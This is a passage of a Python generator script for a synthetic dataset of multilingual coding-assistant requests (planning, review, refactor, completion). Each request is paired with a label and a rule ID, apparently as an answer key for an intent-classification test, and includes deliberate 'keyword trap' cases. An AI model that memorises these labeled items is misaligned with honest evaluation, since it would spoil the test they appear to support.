    steps=[("read", {"filePath": f"{OC}/admin-ui/src/theme.ts"}, oc_read_text("export const theme = {\n  colors: {\n    bg: \"#ffffff\",\n    fg: \"#1b1f23\",\n    primary: \"#0969da\",\n    muted: \"#57606a\",\n    border: \"#d0d7de\",\n    danger: \"#cf222e\",\n  },\n  radius: 6,\n  space: (n: number) => `${n * 4}px`,\n};\nexport type Theme = typeof theme;\n")),
           ("grep", {"pattern": "#[0-9a-fA-F]{6}", "include": "*.tsx"}, f"Found 23 matches\n{OC}/admin-ui/src/components/DataTable.tsx:\n  Line 12: const Row = styled.tr`border-bottom: 1px solid #eaeef2;`\n{OC}/admin-ui/src/components/Sidebar.tsx:\n  Line 8: background: #f6f8fa;\n  Line 19: color: #24292f;\n{OC}/admin-ui/src/pages/Login.tsx:\n  Line 30: background: linear-gradient(#fff, #f6f8fa);\n")])

add("opencode", "planning", "zh", "go",
    "计划一下：billing-api 要支持多币种（现在余额全是分为单位的 int64，默认人民币）。数据库、API、汇率来源、历史数据迁移都要考虑，先出方案",
    rule="R2", repo="billing-api", plan=True, files=["internal/", "migrations/", "cmd/"],
    steps=[("read", {"filePath": f"{OC}/billing-api/internal/api/accounts.go"}, oc_read(OC, S["go_handler"]))])

add("opencode", "planning", "ja", "python",
    "プランだけお願いします：FastAPI の inventory サービスに認証を追加したい。社内の Keycloak と連携、サービス間通信は client credentials。どのルーターにどう依存関係を入れるか、テストはどうするか",
    rule="R2", repo="inventory", plan=True, files=["app/", "app/routers/", "tests/"],
    steps=[("glob", {"pattern": "app/routers/*.py"}, f"{OC}/inventory/app/routers/items.py\n{OC}/inventory/app/routers/suppliers.py\n{OC}/inventory/app/routers/stock.py\n"),
           ("read", {"filePath": f"{OC}/inventory/app/routers/items.py"}, oc_read(OC, S["py_fastapi_items"]))])

add("opencode", "planning", "en", "haskell",
    "Plan mode. I want to turn hs-calc into a tiny language with variables, let, lambdas and a REPL. don't write code, give me the module layout, the data types, and milestones I can ship one by one",
    rule="R2", repo="hs-calc", plan=True, files=["src/", "app/", "test/", "hs-calc.cabal"],
    steps=[("read", {"filePath": f"{OC}/hs-calc/src/Expr.hs"}, oc_read(OC, S["hs_expr"]))])

add("opencode", "planning", "en", "none",
    "before you do anything: we want to publish our internal UI kit as an npm package for two other teams. versioning, build (tsup? vite lib mode?), storybook, how to avoid breaking them. plan it",
    rule="R2", repo="ui-kit", plan=True, files=["src/", "stories/", "package.json"])

add("qwen", "planning", "zh", "python",
    "先规划不要动手：我们要把 Flask 的 accounts 服务迁移到 FastAPI，接口保持兼容，数据库层从 Flask-SQLAlchemy 换成 SQLAlchemy 2.0 async。分几步走、怎么灰度、测试怎么保证",
    rule="R2", repo="accounts", plan=True, files=["api/", "tests/", "requirements.txt"],
    steps=[("read_file", {"absolute_path": f"{QW}/accounts/api/users.py"}, S["py_flask_users"].text),
           ("run_shell_command", {"command": "ls api tests && wc -l api/*.py"}, qw_sh("ls api tests && wc -l api/*.py", "__init__.py\nauth.py\nmodels.py\norgs.py\nusers.py\n\nconftest.py\ntest_auth.py\ntest_orgs.py\ntest_users.py\n   12 api/__init__.py\n  188 api/auth.py\n  141 api/models.py\n  203 api/orgs.py\n   52 api/users.py\n  596 total"))])

add("qwen", "planning", "en", "cpp",
    "plan mode: the engine loads assets synchronously on the main thread and hitches. design async asset streaming (priorities, cancellation, GPU upload on the render thread) around our ThreadPool. list the classes and the order to build them",
    rule="R2", repo="engine", plan=True, files=["src/", "src/assets/", "tests/", "CMakeLists.txt"],
    steps=[("read_file", {"absolute_path": f"{QW}/engine/src/thread_pool.cpp"}, S["cpp_threadpool"].text),
           ("search_file_content", {"pattern": "load(Texture|Mesh|Sound)\\("}, qw_grep("load(Texture|Mesh|Sound)\\(", [("src/assets/AssetManager.cpp", 44, "Texture* AssetManager::loadTexture(const std::string& path) {"), ("src/assets/AssetManager.cpp", 81, "Mesh* AssetManager::loadMesh(const std::string& path) {"), ("src/assets/AssetManager.cpp", 120, "Sound* AssetManager::loadSound(const std::string& path) {"), ("src/game/Level.cpp", 63, "    auto* t = assets.loadTexture(\"levels/\" + name + \"/albedo.ktx2\");")]))])

add("qwen", "planning", "ko", "typescript",
    "계획만 세워줘: web-console 을 모노레포(pnpm workspace)로 바꾸고 공통 컴포넌트를 packages/ui 로 뺄 거야. 빌드, 린트, 배포 파이프라인이 어떻게 바뀌어야 하는지 단계별로",
    rule="R2", repo="web-console", plan=True, files=["src/", "package.json", ".github/"])

add("qwen", "planning", "ru", "none",
    "Сначала план, без правок: нужно добавить в pgtool поддержку бэкапов в S3 с шифрованием и проверкой восстановления раз в неделю. Какие команды, флаги, где хранить ключи, как тестировать.",
    rule="R2", repo="pgtool", plan=True, files=["cmd/", "main.go", "go.mod"],
    steps=[("read_file", {"absolute_path": f"{QW}/pgtool/cmd/backup.go"}, S["go_cobra"].text)])

add("qwen", "refactor", "en", "go",
    "continue, the build is still broken",
    rule="R3", repo="pgtool", files=["cmd/", "main.go", "go.mod"],
    history=[("user", "backup.go builds a shell string with the db name in it — use exec with pg_dump directly and pipe into gzip in Go")],
    steps=[("run_shell_command", {"command": "go build ./..."}, qw_sh("go build ./...", "", 1, "# pgtool/cmd\ncmd/backup.go:27:9: undefined: gzip\ncmd/backup.go:34:3: declared and not used: zw")),
           ("read_file", {"absolute_path": f"{QW}/pgtool/cmd/backup.go", "offset": 15, "limit": 30}, "\tRunE: func(cmd *cobra.Command, args []string) error {\n\t\tdb := args[0]\n\t\tname := fmt.Sprintf(\"%s-%s.sql.gz\", db, time.Now().Format(\"20060102-150405\"))\n\t\tpath := filepath.Join(outDir, name)\n\t\tf, err := os.Create(path)\n\t\tif err != nil {\n\t\t\treturn err\n\t\t}\n\t\tdefer f.Close()\n\t\tzw := gzip.NewWriter(f)\n\t\tc := exec.Command(\"pg_dump\", db)\n\t\tc.Stdout = zw\n\t\tc.Stderr = os.Stderr\n\t\tif err := c.Run(); err != nil {\n\t\t\treturn fmt.Errorf(\"pg_dump: %w\", err)\n\t\t}\n")])

# --- Goose /plan and chats ------------------------------------------------------------------

add("goose", "planning", "en", "none",
    "/plan our marketing site is a 6-year-old wordpress with 400 posts. move it to a static site (astro?) with the blog in markdown, keep URLs, keep the newsletter signup, and let non-devs edit posts",
    rule="R2", plan=True)
add("goose", "planning", "zh", "none",
    "/plan 把公司内网的 20 台服务器从 CentOS 7 迁移到 Rocky Linux 9，上面跑着 Java 应用、MySQL 和 Nginx，要求业务不中断",
    rule="R2", plan=True)
add("goose", "planning", "ru", "none",
    "/plan перевести наш домашний проект (Telegram-бот на Python + SQLite) на нормальный деплой: Docker, Postgres, бэкапы, логирование и автоматический деплой из GitHub",
    rule="R2", plan=True)

# --- chat clients: planning, multi-asks, hard cases -------------------------------------------

add("librechat", "planning", "en", "none",
    "Not looking for code. We're a 10-person team about to rebuild our customer portal. Options on the table: Next.js + our existing REST API, Remix, or a Rails app with Hotwire since two of us know Rails. Evaluate for our case (SEO matters for the public pages, the logged-in part is a dashboard with lots of tables) and recommend, including what the first 6 weeks look like.",
    rule="R6")
add("librechat", "planning", "en", "python",
    "Here's our current order model and tasks. Two asks: (1) is there anything obviously broken in here, and (2) more importantly, how should we evolve this into an event-driven design (order events, outbox, consumers for email/stock/analytics)? The second one is what I need for the architecture review next week.",
    BIG_ORDERS_PY, rule="R13")
add("librechat", "review", "en", "java",
    "here's a log from prod. don't tell me how to fix it yet, I just want to understand what the GC is doing and what the export has to do with it",
    "```\n" + GC_LOG + "```", rule="R5")
add("librechat", "planning", "de", "none",
    "Wir planen eine neue interne Plattform für Datenanalyse: Rohdaten aus 5 Quellen (Postgres, Salesforce, Google Analytics, S3-CSV, eine REST-API), dbt für Transformationen, ein BI-Tool. Welche Komponenten, welches Warehouse (BigQuery, Snowflake, DuckDB/MotherDuck), und wie bauen wir das schrittweise auf?",
    rule="R7")
add("librechat", "planning", "ja", "none",
    "モバイルアプリのプッシュ通知基盤を作り直します。現在は Firebase を直接叩くバッチが 5 つあります。セグメント配信、配信時間の最適化、開封率の計測をしたいです。アーキテクチャ案とマイルストーンを出してください",
    rule="R7")
add("librechat", "refactor", "en", "python",
    "review this and rewrite it properly, then tell me what you changed",
    S["py_etl"], rule="R9")
add("librechat", "review", "en", "python",
    "Review this please. Do not change anything, I only want the list of problems ranked by severity.",
    S["py_flask_users"], rule="R9")
add("librechat", "planning", "es", "none",
    "Nuestra app de reservas de restaurantes tiene picos brutales los viernes a las 19:00 y la base de datos se satura. No quiero parches: ¿cómo replantearías la arquitectura (colas, caché, réplicas de lectura, reserva de mesas con bloqueo optimista)? Dame opciones y un plan.",
    rule="R5")
add("librechat", "planning", "zh", "none",
    "我们是一个 8 人的前端团队，要从 Vue 2 + Webpack 迁到 Vue 3 + Vite，同时引入 TypeScript。项目有 300 多个组件，还有一些老的 mixin 和全局事件总线。请帮我制定迁移路线图，包括怎么在迁移过程中继续交付需求",
    rule="R7")
add("librechat", "completion", "en", "typescript",
    "type stub (d.ts) for this untyped module so I can import it from TS:",
    S["js_emitter"], rule="R7")

add("slack", "planning", "en", "none",
    "<@U04HOOT> we need to decide where our new search service lives: inside the catalog service or standalone. catalog team is overloaded. pros/cons and a recommendation please, with how we'd get there",
    rule="R6", channel="architecture", author="dana.k")
add("slack", "planning", "de", "none",
    "<@U04HOOT> Unser Postgres ist bei 2 TB und Backups dauern 9 Stunden. Wie planen wir den Umstieg auf inkrementelle Backups (pgBackRest?) inklusive Restore-Tests?",
    rule="R5", channel="platform", author="jbauer")
add("slack", "review", "en", "none",
    "<@U04HOOT> is this cron expression right for 'every weekday at 6:30 berlin time'? `30 6 * * 1-5` — the server runs in UTC",
    rule="R6", channel="eng-help", author="lena.m")

add("cody_chat", "planning", "en", "go",
    "@internal/api/accounts.go @internal/config/config.go we want to add audit logging for every mutation (who changed what, before/after) across all handlers. how would you design it so we don't sprinkle code everywhere? and where do we store it",
    [S["go_handler"], S["go_config"]], rule="R7")
add("cody_chat", "planning", "zh", "typescript",
    "@src/store/cart.ts @src/routes/orders.ts 购物车现在只存在前端 localStorage，想改成登录用户服务端存储、游客本地存储，登录时合并。整体怎么设计？",
    [S["ts_cart_store"], S["ts_express_orders"]], rule="R7")
add("cody_chat", "review", "en", "typescript",
    "@src/store/cart.ts @src/routes/orders.ts complete list of places where the client and server disagree about prices or quantities",
    [S["ts_cart_store"], S["ts_express_orders"]], rule="R11")

add("cc_chat", "planning", "en", "python",
    "#buffer this rate limiter works for one process. we're going to 8 gunicorn workers on 3 hosts. what should the design become? options + what you'd pick",
    S["py_ratelimit"], rule="R6")
add("cc_chat", "planning", "de", "none",
    "Ich will unsere Neovim-Plugin-Sammlung (4 kleine Plugins) in ein Monorepo mit gemeinsamen Tests (busted + plenary) und CI für mehrere Neovim-Versionen zusammenführen. Wie strukturiere ich das?",
    rule="R7")
add("cc_chat", "review", "en", "python",
    "#buffer don't refactor anything, just tell me what's wrong with the locking in acquire",
    S["py_ratelimit"], rule="R11")

add("avante_ask", "planning", "en", "go",
    "given this handler, we want to expose the same operations over gRPC for internal callers while keeping REST for the web app. how do we structure the code so the business logic isn't duplicated? plan the packages",
    S["go_handler"], rule="R7")
add("avante_ask", "planning", "ru", "python",
    "Этот модуль с моделями Django — часть большого монолита. Хотим вынести заказы в отдельный сервис со своей базой. Как спланировать: границы, синхронизация данных, переходный период?",
    S["py_django_orders"], rule="R7")
add("avante_ask", "refactor", "en", "python",
    "clean this up and tell me what you changed",
    S["py_nginx"], rule="R9")

add("gptel", "planning", "en", "none",
    "I have to present a plan for making our flaky test suite reliable: 4000 tests, ~3% flaky, CI retries hide it. what's the plan, metrics, ownership, quarantine process?",
    rule="R4")
add("gptel", "planning", "es", "none",
    "¿Cómo planificarías pasar una API REST pública de v1 a v2 con cambios incompatibles, manteniendo las dos versiones 12 meses? Versionado, documentación, comunicación y cómo medir quién sigue en v1.",
    rule="R7")

add("void_chat", "planning", "en", "rust",
    "we're replacing the python ingestion service with rust (this config module is the first piece). what's the migration strategy: strangler, side-by-side shadow traffic, or big bang? and how do we compare outputs",
    S["rs_config"], rule="R7", repo="ingest-rs")
add("void_chat", "review", "en", "rust",
    "is `#[serde(default)]` on weight doing the same thing as `#[serde(default = \"...\")]` with a function returning 0?",
    S["rs_config"], rule="R6", repo="ingest-rs")

add("gp", "planning", "en", "none", "help me plan a weekend hackathon project: a CLI that turns a git log into a weekly team digest with an LLM. what components, what to build first so I have a demo by Sunday", mode="chat", rule="R7")
add("gp", "planning", "ru", "none", "Как организовать хранение и версионирование ML-моделей и датасетов в небольшой команде (5 человек)? DVC, MLflow, просто S3 с соглашениями? Что выбрать и как внедрить", mode="chat", rule="R6")

add("twinny", "planning", "de", "none", "Wie würdest du eine kleine Desktop-App (Tauri oder Electron) für die Zeiterfassung im Team aufbauen, mit Offline-Modus und Sync? Architektur und Reihenfolge bitte.", chat=True, rule="R7")

add("oi", "planning", "en", "none",
    "I've got 3 years of bank CSV exports from 2 banks in different formats. I want a personal finance dashboard: categorization, monthly trends, recurring subscriptions detection. how should I set this up so I can just drop new CSVs in a folder every month?",
    rule="R7")

add("cody_chat", "refactor", "en", "python",
    "fix the bug where send_order_confirmation retries forever on a bad email address, and also add a short note in the docstring explaining the retry policy",
    S["py_worker"], rule="R13")
add("cc_inline", "completion", "en", "python", "regex for a semantic version with optional pre-release and build metadata, as a compiled constant named SEMVER", rule="R7")
add("void_chat", "completion", "en", "sql",
    "I need a single query: for each product, the date it first went out of stock (stock_events(product_id, at, qty_after)) in the last 90 days, null if never",
    rule="R7", repo="inventory")
add("gptel", "review", "en", "python", "which of these two is faster for checking membership in a loop over 1M items and why?\n\n```python\nallowed = [\"a\", \"b\", \"c\", ...]  # 5000 items\nif x in allowed: ...\n\nallowed = {\"a\", \"b\", \"c\", ...}\nif x in allowed: ...\n```", rule="R6")
add("librechat", "completion", "en", "python",
    "dataclass for this JSON, with a from_dict classmethod:\n\n{\"order_id\": \"o_91\", \"placed_at\": \"2025-10-01T10:00:00Z\", \"items\": [{\"sku\": \"A1\", \"qty\": 2, \"price\": \"9.99\"}], \"shipping\": {\"method\": \"express\", \"cost\": \"4.90\"}, \"notes\": null}",
    rule="R7")
add("review_bot", "review", "en", "python",
    "@reviewbot are you sure about the release_stock comment? looks fine to me",
    pr("worker: cancel stale orders in one UPDATE", "Performance: the loop did one UPDATE per order.", PR_DIFF_WORKER),
    history=[("assistant", "**worker/tasks.py L34 (major):** `stale` is re-evaluated after the update and matches nothing, so `release_stock` is never called.")],
    rule="R6")


# ---------------------------------------------------------------------------------------
# Batch 10: keyword traps, negations, short and vague asks
# ---------------------------------------------------------------------------------------

add("librechat", "completion", "en", "python",
    "write a function that builds a payment plan: given a total (Decimal), n installments and the first due date, return a list of (due_date, amount), monthly, with the rounding remainder added to the last installment",
    rule="R11")
add("avante_edit", "refactor", "en", "python",
    "add a `reviewer` field to Order (FK to the user model, nullable, related_name='reviewed_orders') and show it in __str__ when set",
    S["py_django_orders"], rule="R11")
add("slack", "planning", "en", "none",
    "<@U04HOOT> serious question for the guild: should we refactor the billing monolith into services this year, and if yes in what order? billing, invoicing, dunning and tax are all tangled in one django app",
    rule="R11", channel="architecture", author="priya")
add("codex", "refactor", "en", "typescript",
    "Dana left review comments on the PR, apply them: (1) rename `toggleSort` to `handleSort`, (2) don't store `pages` implicitly, compute it with Math.max(1, ...), (3) the Prev/Next buttons need aria-labels",
    rule="R11", repo="admin-ui",
    steps=[("shell", "cat src/components/DataTable.tsx", S["ts_datatable"].text)])
add("cody_chat", "completion", "en", "bash",
    "plan B in case the migration goes wrong tonight: write a bash script restore-latest.sh that finds the newest dump in /var/backups/pg, restores it into a new database named app_restore_<timestamp>, and prints the DATABASE_URL to switch to. set -euo pipefail, no prompts",
    rule="R11")
add("gptel", "review", "en", "bash",
    "no plan, no design, I just need to know what this awk does: `awk -F'\\t' 'NR>1 && $3>0 {a[$1]+=$3} END {for (k in a) print k, a[k]}' sales.tsv | sort -k2 -nr | head`",
    rule="R11")
add("void_chat", "refactor", "en", "javascript",
    "don't review it, just convert it to TypeScript with proper types for the handlers map",
    S["js_emitter"], rule="R11", repo="ui-kit")
add("opencode", "review", "en", "typescript",
    "refactoring question, but don't do it: is pulling the sort logic of DataTable into a useSort hook worth it, or overkill for one component?",
    rule="R11", repo="admin-ui", files=["src/", "src/components/"],
    steps=[("read", {"filePath": f"{OC}/admin-ui/src/components/DataTable.tsx"}, oc_read(OC, S["ts_datatable"]))])
add("twinny", "review", "en", "python", "complete list of the edge cases this misses please", S["py_pagination"], chat=True, rule="R11")
add("qwen", "refactor", "en", "go",
    "add a Plan type with constants PlanFree/PlanPro/PlanTeam and a Valid() method in accounts.go, and use it in UpdatePlan (the migration plan for existing rows is out of scope)",
    rule="R11", repo="billing-api", files=["internal/", "cmd/"],
    steps=[("read_file", {"absolute_path": f"{QW}/billing-api/internal/api/accounts.go"}, S["go_handler"].text)])
add("cc_chat", "review", "en", "python",
    "and the other one?",
    S["py_retry"], rule="R6",
    history=[("user", "#buffer is `retry` safe to use on a generator function?"),
             ("assistant", "No. Calling a generator function only creates the generator, so `fn(*args, **kwargs)` never raises inside the `try`; exceptions happen later while iterating, outside the decorator, and nothing is retried."),
             ("user", "ok what about async def functions")])
add("cc_chat", "completion", "en", "elixir", "tests pls", S["elixir_genserver"], rule="R4")
add("avante_ask", "refactor", "en", "python", "make it faster", S["py_nginx"], rule="R8")
add("oi", "review", "en", "python", "why",
    rule="R5",
    history=[("user", "count the lines in all .log files in this folder")],
    steps=[oi_exec("python", "import glob\ntotal = sum(len(open(p).readlines()) for p in glob.glob('*.log'))\nprint(total)", "Traceback (most recent call last):\n  File \"<stdin>\", line 2, in <genexpr>\n  File \"<frozen codecs>\", line 322, in decode\nUnicodeDecodeError: 'utf-8' codec can't decode byte 0xff in position 0: invalid start byte\n")])
add("gp", "refactor", "en", "swift", "no need to explain, just fix the force unwraps", "```swift\nfunc avatarURL(for user: User) -> URL {\n    let base = Bundle.main.object(forInfoDictionaryKey: \"CDN_BASE\") as! String\n    return URL(string: base + \"/avatars/\" + user.avatarPath!)!\n}\n```", mode="rewrite", rule="R11")
add("librechat", "review", "en", "swift",
    "Is this Swift actor usage correct? I thought actors made everything thread-safe but I'm getting wrong counts\n\n```swift\nactor Counter {\n    private var value = 0\n    func increment() async {\n        let current = value\n        await Task.yield()\n        value = current + 1\n    }\n    func get() -> Int { value }\n}\n```",
    rule="R6")
add("void_chat", "completion", "en", "swift",
    "write a Swift function that formats a byte count like Finder does (\"1,2 MB\" with the user's locale), using ByteCountFormatter, plus an overload for Int64",
    rule="R7", repo="ios-app")
add("review_bot", "review", "en", "scala",
    "Do a full review of this PR. Path instructions for src/main/scala/jobs/**: check partitioning, output format compatibility with downstream consumers, and null handling.",
    pr("jobs: daily revenue per channel", "Adds the channel dimension to the daily revenue job.",
       "diff --git a/src/main/scala/jobs/DailyRevenue.scala b/src/main/scala/jobs/DailyRevenue.scala\nindex 1234abc..5678def 100644\n--- a/src/main/scala/jobs/DailyRevenue.scala\n+++ b/src/main/scala/jobs/DailyRevenue.scala\n@@ -15,9 +15,10 @@ object DailyRevenue {\n     val revenue = orders\n       .filter($\"status\" === \"paid\" && F.to_date($\"paid_at\") === F.lit(day))\n       .join(fx, Seq(\"currency\"), \"left\")\n       .withColumn(\"amount_eur\", $\"amount\" * F.coalesce($\"rate_to_eur\", F.lit(1.0)))\n-      .groupBy($\"country\")\n+      .withColumn(\"channel\", F.when($\"utm_source\".isNull, \"direct\").otherwise($\"utm_source\"))\n+      .groupBy($\"country\", $\"channel\")\n       .agg(F.sum(\"amount_eur\").as(\"revenue_eur\"), F.countDistinct(\"customer_id\").as(\"customers\"))\n       .orderBy(F.desc(\"revenue_eur\"))\n-    revenue.write.mode(\"overwrite\").parquet(s\"$output/day=$day\")\n+    revenue.coalesce(1).write.mode(\"overwrite\").option(\"header\", \"true\").csv(s\"$output/day=$day\")\n"),
    rule="R6")
add("gptel", "refactor", "en", "scala", "make the input/output paths and the day come from scopt-parsed options instead of the Array pattern match", S["scala_spark"], rewrite=True, rule="R8")
add("cody_chat", "planning", "en", "elixir",
    "@lib/shop/rate_limiter.ex we're adding a public API with per-customer quotas (monthly), burst limits, and usage-based billing. the rate limiter is the seed of this. how should the quota/billing system look? components, storage, how it plugs into Phoenix",
    S["elixir_genserver"], rule="R7")
add("cc_inline", "refactor", "en", "haskell", "use foldr and Maybe's Applicative instead of the explicit recursion", "```haskell\nparseAll :: [String] -> Maybe [Int]\nparseAll [] = Just []\nparseAll (s:ss) = case readMaybe s of\n  Nothing -> Nothing\n  Just n -> case parseAll ss of\n    Nothing -> Nothing\n    Just ns -> Just (n : ns)\n```", rule="R8")
add("librechat", "planning", "en", "haskell",
    "our team has one Haskell service (pricing engine, 15k lines) and only one person who knows Haskell. do we rewrite it in Kotlin, train people, or wrap it and freeze it? I need to bring a recommendation with a plan to my director",
    rule="R6")
add("gp", "completion", "en", "bash", "", "```bash\n# usage: git-prune-merged [BASE]  -- delete local branches already merged into BASE (default: main),\n# never delete the current branch, main, master or develop; print what was deleted\ngit_prune_merged() {\n  # TODO\n}\n```", mode="implement", rule="R7")
add("slack", "review", "en", "sql",
    "<@U04HOOT> why does this return more rows than the orders table has?\n```SELECT o.id, o.total, p.amount\nFROM orders o\nJOIN payments p ON p.customer_id = o.customer_id\nWHERE o.created_at > now() - interval '1 day'```",
    rule="R5", channel="data-eng", author="wei.zhang")
add("codex", "planning", "en", "none",
    "don't change anything yet. I want a plan for cleaning up our feature flags: 140 flags in LaunchDarkly, maybe 30 still used. how do we find dead ones in the code, remove them safely, and stop this from happening again?",
    rule="R2", repo="storefront",
    steps=[("shell", "rg -o \"useFlag\\(['\\\"][a-z0-9-]+\" src | sort | uniq -c | sort -rn | head -15", "     14 src/pages/Checkout.tsx:useFlag('new-pricing\n      9 src/components/Header.tsx:useFlag('mega-menu\n      6 src/pages/Product.tsx:useFlag('reviews-v2\n      4 src/pages/Cart.tsx:useFlag('cart-upsell\n      3 src/pages/Account.tsx:useFlag('account-redesign\n      2 src/pages/Search.tsx:useFlag('search-typesense\n      1 src/pages/Home.tsx:useFlag('holiday-banner-2023\n      1 src/pages/Home.tsx:useFlag('holiday-banner-2024\n")])


# === MAIN ===

def opening(text: str, n: int = 3) -> str:
    return " ".join(text.lower().split()[:n])


def main() -> int:
    seen_asks: dict[str, int] = {}
    openings: collections.Counter[str] = collections.Counter()
    lines = []
    for n, e in enumerate(ENTRIES, 1):
        e.id = f"trb-{n:04d}"
        name, wrap = CLIENTS[e.client]
        key = e.ask.strip() or json.dumps(e.get("fim") or e.get("prompt") or e.get("diff") or "", ensure_ascii=False)
        if key == '""' and e.code:
            key = "code:" + "".join(c.text if isinstance(c, Snip) else c for c in e.code)
        assert key, e.id
        assert key not in seen_asks, f"{e.id}: duplicate instruction (first at {seen_asks.get(key)})"
        seen_asks[key] = n
        if e.ask:
            openings[opening(e.ask)] += 1
        endpoint, headers, body = wrap(e)
        row = {"id": e.id, "endpoint": endpoint}
        if headers:
            row["headers"] = headers
        row.update({"body": body, "label": e.label, "client": name, "language": e.lang,
                    "human_language": e.hl})
        if e.rule:
            row["rule"] = e.rule
        line = json.dumps(row, ensure_ascii=False)
        assert len(line.encode()) < 60_000, f"{e.id}: line too long ({len(line.encode())})"
        lines.append(line)
    text = "\n".join(lines) + "\n"
    assert len(text.encode()) < 5_000_000
    OUT.write_text(text, encoding="utf-8")
    common = [(k, v) for k, v in openings.most_common(10) if v > 3]
    if common:
        print("openings used more than 3 times:", common, file=sys.stderr)
    big = sum(1 for line in lines if len(line.encode()) > 12_000)
    print(f"wrote {len(lines)} rows to {OUT} ({big} over 12 KB)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
